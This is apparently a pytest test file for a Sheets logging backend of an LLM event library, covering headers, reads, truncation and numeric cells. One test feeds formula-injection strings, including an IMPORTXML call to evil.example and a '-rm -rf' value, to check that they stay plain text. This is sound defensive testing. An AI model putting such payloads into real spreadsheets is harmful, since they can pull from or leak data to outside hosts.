"""Rows, header and cells: what a team sees in the sheet, through the real gspread +
google-auth stack against the loopback fake."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import hilt
from hilt_core.columns import ALL_COLUMNS
from hilt_sheets.testing import FakeGoogle

TAB = "LLM Logs"


def completion(reply_to: str, **metrics: Any) -> hilt.Event:
    return hilt.Event(
        session_id="conv_0123456789ab",
        actor=hilt.Actor(type="agent", id="openai"),
        action="completion",
        content=hilt.Content(text="Hello there"),
        metrics=hilt.Metrics(**metrics),
        extensions={"reply_to": reply_to, "model": "gpt-4o-2024-08-06", "status_code": 200},
    )


def test_batch_reaches_new_tab_with_header_in_one_append(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument()
    events = [make_prompt(f"question {i}") for i in range(25)]
    for e in events:
        session.append(e)
    assert session.flush() is True

    assert sheet.header() == list(ALL_COLUMNS)  # event_id is among them: no extra column
    assert sheet.column("event_id") == [e.event_id for e in events]
    assert sheet.column("message") == [f"question {i}" for i in range(25)]
    assert sheet.column("speaker")[0] == "human: user"
    assert sheet.column("session")[0] == "Conv.01234567"
    appends = sheet.appends()
    assert len(appends) == 1  # one values.append for the batch
    assert appends[0].query["valueInputOption"] == ["RAW"]
    assert session.handle.stats["uploaded"] == 25
    styled = [json.dumps(r.body) for r in sheet.requests("POST", ":batchUpdate")]
    assert any('"frozenRowCount": 1' in body for body in styled)  # the header stays in view


def test_read_returns_the_rows_as_events(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument()
    p = make_prompt("what is 2+2?")
    session.append(p)
    session.append(completion(p.event_id, tokens={"prompt": 12, "completion": 3}, cost_usd=4e-05))
    got = list(session.read())
    assert [e.event_id for e in got] == [p.event_id, got[1].event_id]
    assert got[0].content is not None
    assert got[0].content.text == "what is 2+2?"
    assert got[1].extensions is not None
    assert got[1].extensions["reply_to"] == p.event_id
    assert got[1].metrics is not None
    assert got[1].metrics.tokens == {"prompt": 12, "completion": 3}

    session.close()
    reader = hilt.Session(backend="sheets", mode="r", **_session_options(sheet))
    assert [e.event_id for e in reader.read()] == [e.event_id for e in got]


def _session_options(sheet: Any) -> dict[str, Any]:
    opts: dict[str, Any] = sheet.options()
    opts.pop("providers")
    return opts


def test_read_a_sheet_written_by_0_2_8(sheet: Any) -> None:
    gc = sheet.g.client(sheet.info)
    ws = gc.open_by_key(sheet.sid).add_worksheet(TAB, rows=10, cols=15)
    old = ["2025-10-01 12:00:00", "conv_aaaaaaaaaaaa", "e-1", "", "200", "Conv.aaaaaaaa"]
    old += ["agent: openai", "completion", "Hi", "10", "5", "0.000005", "6", "gpt-4o-mini", ""]
    ws.update([list(ALL_COLUMNS), old], "A1", value_input_option="USER_ENTERED")
    reader = hilt.Session(backend="sheets", mode="r", **_session_options(sheet))
    (event,) = list(reader.read())
    assert event.event_id == "e-1"
    assert event.actor.type == "agent"
    assert event.metrics is not None
    assert event.metrics.tokens == {"prompt": 10, "completion": 5}
    assert event.metrics.cost_usd == pytest.approx(0.000005)
    assert event.timestamp.year == 2025
    assert sheet.header() == list(ALL_COLUMNS)  # mode="r" never writes


def test_header_merge_keeps_team_columns_and_maps_by_name(sheet: Any, make_prompt: Any) -> None:
    gc = sheet.g.client(sheet.info)
    ws = gc.open_by_key(sheet.sid).add_worksheet(TAB, rows=5, cols=4)
    team = ["notes", "message", "timestamp", "reviewer"]
    ws.update([team, ["keep me", "old prompt", "2025-01-01", "ana"]], "A1")

    session = sheet.instrument(columns=["timestamp", "speaker", "message", "cost_usd"])
    session.append(make_prompt("new prompt"))
    assert session.flush()

    # Existing columns keep their place; missing ones are added after them; the grid grew.
    assert sheet.header() == [*team, "speaker", "cost_usd", "event_id"]
    assert sheet.rows()[0] == ["keep me", "old prompt", "2025-01-01", "ana"]
    new = dict(zip(sheet.header(), sheet.rows()[1], strict=False))
    assert new["message"] == "new prompt"
    assert new["speaker"] == "human: user"
    assert new["timestamp"].startswith("20")
    assert "notes" not in new or new["notes"] == ""
    assert sheet.g.grid_size(sheet.sid, TAB)[1] == 7


def test_rows_follow_columns_moved_while_running(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument(columns=["action", "message"], header_ttl=0)
    session.append(make_prompt("first"))
    assert session.flush()
    assert sheet.header() == ["action", "message", "event_id"]

    # Someone swaps two columns in the sheet while the app runs.
    gc = sheet.g.client(sheet.info)
    gc.open_by_key(sheet.sid).worksheet(TAB).update([["message", "event_id", "action"]], "A1")
    session.append(make_prompt("second"))
    assert session.flush()
    last = dict(zip(sheet.header(), sheet.rows()[-1], strict=True))
    assert last["message"] == "second"
    assert last["action"] == "prompt"


def test_formula_text_stays_text(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument()
    texts = ['=IMPORTXML("http://evil.example/x","//a")', "+1-2", "@SUM(A1)", "-rm -rf", "'quoted"]
    for t in texts:
        session.append(make_prompt(t))
    assert session.flush()
    assert sheet.column("message") == texts
    assert sheet.g.formula_cells == []
    writes = sheet.requests("POST") + sheet.requests("PUT")
    assert all(r.query.get("valueInputOption") in (None, ["RAW"]) for r in writes)


def test_long_text_is_cut_at_the_cell_limit_with_a_marker(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument()
    session.append(make_prompt("x" * 60_000))
    session.append(make_prompt("short"))
    assert session.flush()
    cut, short = sheet.column("message")
    assert len(cut) == 50_000
    assert cut.startswith("xxxx")
    assert cut.endswith("…[cut by HILT: 60,000 characters in all]")
    assert short == "short"


def test_message_limit_option_keeps_0_2_8_cut(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument(message_limit=500)
    session.append(make_prompt("y" * 800))
    assert session.flush()
    (message,) = sheet.column("message")
    assert len(message) == 500
    assert message.endswith("...")


def test_numbers_stay_numbers(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument()
    p = make_prompt("hi")
    session.append(p)
    session.append(
        completion(
            p.event_id, tokens={"prompt": 12, "completion": 30}, cost_usd=0.00042, latency_ms=812.5
        )
    )
    # A 0.2.8-style event: cost written as text becomes a number too.
    session.append({**completion(p.event_id).to_dict(), "metrics": {"cost_usd": "0.000005"}})
    assert session.flush()
    row = dict(zip(sheet.header(), sheet.rows()[1], strict=False))
    assert row["tokens_in"] == 12
    assert type(row["tokens_in"]) is int
    assert row["tokens_out"] == 30
    assert row["cost_usd"] == 0.00042
    assert row["latency_ms"] == 812.5
    assert row["status_code"] == 200
    assert sheet.column("cost_usd") == ["", 0.00042, 0.000005]
    appended = sheet.appends()[0].body["values"]
    assert appended[1][ALL_COLUMNS.index("cost_usd")] == 0.00042  # a JSON number on the wire


def test_extra_columns_can_join(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument(columns=[*ALL_COLUMNS, "provider", "total_tokens"])
    e = completion("p-1", tokens={"prompt": 1, "completion": 2, "total": 3})
    e.extensions = {**(e.extensions or {}), "provider": "openai"}
    session.append(e)
    assert session.flush()
    assert sheet.header()[-2:] == ["provider", "total_tokens"]
    assert sheet.rows()[0][-2:] == ["openai", 3]


def test_settings_from_environment(
    sheet: Any, make_prompt: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = tmp_path / "key.json"
    key.write_text(json.dumps(sheet.info), "utf-8")
    monkeypatch.setenv("GOOGLE_SHEET_ID", sheet.sid)
    monkeypatch.setenv("GOOGLE_CREDENTIALS_PATH", str(key))
    opts = sheet.options()
    for name in ("sheet_id", "credentials_json"):
        del opts[name]
    session = hilt.instrument(backend="sheets", **opts)
    session.append(make_prompt("from env"))
    assert session.flush()
    assert sheet.column("message") == ["from env"]


def test_sheet_url_is_accepted_as_sheet_id(sheet: Any, make_prompt: Any) -> None:
    url = f"https://docs.google.com/spreadsheets/d/{sheet.sid}/edit#gid=0"
    session = sheet.instrument(sheet_id=url)
    session.append(make_prompt("by url"))
    assert session.flush()
    assert sheet.column("message") == ["by url"]


def test_authorized_client_option(sheet: Any, make_prompt: Any, g: FakeGoogle) -> None:
    client = g.client(sheet.info)
    opts = sheet.options(client=client)
    for name in ("credentials_json", "http_client"):
        del opts[name]
    session = hilt.instrument(backend="sheets", **opts)
    session.append(make_prompt("via client="))
    assert session.flush()
    assert sheet.column("message") == ["via client="]
    assert client.http_client.timeout == 30.0  # a hung connection cannot stall the thread


def test_columns_option_keeps_content_out_of_the_sheet(sheet: Any, make_prompt: Any) -> None:
    session = sheet.instrument(columns=["timestamp", "action", "tokens_in"])
    session.append(make_prompt("secret prompt"))
    assert session.flush()
    assert sheet.header() == ["timestamp", "action", "tokens_in", "event_id"]
    assert "secret prompt" not in json.dumps(sheet.values())
